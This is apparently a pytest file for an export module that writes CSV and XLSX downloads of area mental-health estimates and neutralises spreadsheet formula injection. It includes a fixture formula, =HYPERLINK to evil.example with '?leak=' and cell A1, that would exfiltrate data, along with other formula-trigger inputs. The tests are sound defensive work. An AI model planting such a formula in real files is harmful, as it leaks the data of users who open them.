"""Downloads: UTF-8 CSV and XLSX whose text can never run as a spreadsheet formula."""

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from needs.exports import neutralise, to_csv_bytes, to_xlsx_bytes

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
NOTES = ["Synthetic demo data", "Rates: Adult Psychiatric Morbidity Survey 2014 (2016)"]


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Code": ["E07900001", "E07900002", "E07900003"],
            "Name": ["Redditch", HYPERLINK, "Bromsgrove – north"],
            "Estimated people": [1234.5, -2.25, None],
        }
    )


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x", "  =1+1", " @x"])
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Redditch", "Bromsgrove – north", "", "a=b", "'=already", 12, -1, -2.5, None]
)
def test_plain_text_numbers_and_missing_values_are_left_alone(value):
    assert neutralise(value) is value


def csv_parts(content: bytes) -> tuple[list[str], list[list[str]]]:
    """(comment lines, rows of the CSV proper) from a download."""
    text = content.decode("utf-8-sig")
    lines = text.splitlines(keepends=True)
    comments = [line.rstrip("\n") for line in lines if line.startswith("# ")]
    body = "".join(line for line in lines if not line.startswith("# "))
    return comments, list(csv.reader(io.StringIO(body)))


def test_the_csv_starts_with_a_utf8_byte_order_mark_so_excel_reads_it_as_utf8():
    content = to_csv_bytes(table(), notes=NOTES)
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Bromsgrove – north".encode() in content


def test_the_csv_has_the_notes_first_as_comment_lines_then_the_table():
    content = to_csv_bytes(table(), notes=NOTES)
    text = content.decode("utf-8-sig")
    assert text.splitlines()[:3] == [f"# {NOTES[0]}", f"# {NOTES[1]}", "Code,Name,Estimated people"]
    comments, rows = csv_parts(content)
    assert comments == [f"# {note}" for note in NOTES]
    assert rows[0] == ["Code", "Name", "Estimated people"]
    assert len(rows) == 4


def test_the_csv_reads_back_with_pandas_skipping_the_comments():
    frame = pd.read_csv(
        io.BytesIO(to_csv_bytes(table(), notes=NOTES)), comment="#", encoding="utf-8-sig"
    )
    assert list(frame.columns) == ["Code", "Name", "Estimated people"]
    assert frame["Estimated people"].iloc[:2].tolist() == [1234.5, -2.25]
    assert frame["Estimated people"].isna().iloc[2]


def test_a_formula_in_a_csv_cell_is_neutralised_and_numbers_are_not():
    _, rows = csv_parts(to_csv_bytes(table(), notes=NOTES))
    names = [r[1] for r in rows[1:]]
    assert names == ["Redditch", "'" + HYPERLINK, "Bromsgrove – north"]
    assert rows[2][2] == "-2.25"  # a negative number stays a number


def test_a_formula_in_a_note_is_neutralised_too():
    comments, _ = csv_parts(to_csv_bytes(table(), notes=["=cmd()"]))
    assert comments == ["# '=cmd()"]


def test_a_note_with_a_line_break_stays_inside_the_comment_lines():
    content = to_csv_bytes(table(), notes=[f"Rates: Local survey\n{HYPERLINK}"])
    lines = content.decode("utf-8-sig").splitlines()
    header = lines.index("Code,Name,Estimated people")
    assert all(line.startswith("# ") for line in lines[:header])


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_the_xlsx_has_a_data_sheet_with_the_columns_and_a_notes_sheet():
    book = workbook(to_xlsx_bytes(table(), title="Common mental disorder, 2023", notes=NOTES))
    assert book.sheetnames == ["Data", "Notes"]
    data = book["Data"]
    assert [cell.value for cell in data[1]] == ["Code", "Name", "Estimated people"]
    assert all(cell.font.bold for cell in data[1])
    assert [cell.value for cell in data["A"][1:]] == ["E07900001", "E07900002", "E07900003"]
    assert data["C2"].value == 1234.5 and data["C2"].data_type == "n"
    assert data["C4"].value is None  # missing, not "nan"
    notes = [row[0] for row in book["Notes"].iter_rows(values_only=True)]
    assert notes == ["Common mental disorder, 2023", *NOTES]


def test_a_malicious_name_in_the_xlsx_is_stored_as_text_not_as_a_formula():
    book = workbook(to_xlsx_bytes(table(), title="t", notes=["=1+1"]))
    cell = book["Data"]["B3"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK
    assert book["Notes"]["A2"].data_type == "s"
    assert book["Notes"]["A2"].value == "'=1+1"
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_a_column_header_that_looks_like_a_formula_is_stored_as_text():
    book = workbook(to_xlsx_bytes(pd.DataFrame({"=1+1": ["a"]}), title="t", notes=[]))
    assert book["Data"]["A1"].data_type == "s"
